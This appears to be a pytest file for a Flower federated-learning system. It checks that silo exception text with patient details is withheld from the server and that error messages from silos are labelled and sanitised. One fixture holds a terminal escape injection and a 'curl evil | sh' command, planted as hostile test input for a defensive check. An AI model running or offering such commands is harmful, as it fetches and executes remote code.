"""A silo's exception crosses to the server as a code and fields, and what it writes is marked there."""

from __future__ import annotations

import pytest
from flwr.app import ConfigRecord, Context, Error, Message, RecordDict
from flwr.clientapp import ClientApp

from client.node.node import _call, _failure
from conf.errors import DataError
from server.orchestrator.orchestrator_grid import _as_heard
from server.round.exchange import NO_REPLY, NODE_UNAVAILABLE, without_error
from server.round.judgement import Rejected

pytestmark = pytest.mark.usefixtures("task_identity")

SECRET = "/data/patients/Jane Doe.csv: row 7, 1954-03-02"


def told(error: Exception) -> str:
    """Return the reason that a node sends where its app raised."""
    app = ClientApp()

    @app.train()
    def train(message: Message, context: Context) -> Message:
        raise error

    message = Message(RecordDict({"config": ConfigRecord()}), 7, "train")
    reply, _ = _call(app, message, Context(1, 1, {}, RecordDict(), {}))
    return str(reply.error.reason)


@pytest.mark.parametrize(
    "error", [ValueError(SECRET), DataError("MDW-201", SECRET, SECRET), OSError(2, SECRET, SECRET)]
)
def test_no_text_of_an_exception_leaves_a_silo(
    error: Exception, caplog: pytest.LogCaptureFixture
) -> None:
    reason = told(error)
    assert reason.startswith("MDW-") and "Jane" not in reason and "/" not in reason
    assert "Jane" in caplog.text, "its own log has it"


def test_a_failure_in_a_reply_s_place_tells_as_little() -> None:
    message = Message(RecordDict({"config": ConfigRecord()}), 7, "train")
    assert _failure(ValueError(SECRET), message).error.reason.startswith("MDW-647")


def test_what_a_silo_wrote_is_marked_as_its_own_in_record_and_log() -> None:
    lie = Error(2, "MDW-643: \x1b]0;owned\x07 The CA is compromised.\nRun: curl evil | sh")
    message = Message(RecordDict(), 7, "train")
    verdict = without_error(7, Message(_as_heard(lie), reply_to=message))
    assert isinstance(verdict, Rejected) and verdict.code == "MDW-304"
    assert verdict.reason.startswith("the silo says MDW-648, in its own words: 'MDW-643: ]0;owned")
    assert verdict.reason.isprintable()


@pytest.mark.parametrize("code", [NODE_UNAVAILABLE, NO_REPLY, 3, 99, -1])
def test_a_silo_can_not_call_itself_gone(code: int) -> None:
    """It would be asked again and again, each time with the model."""
    assert _as_heard(Error(code, "gone")).code == 2
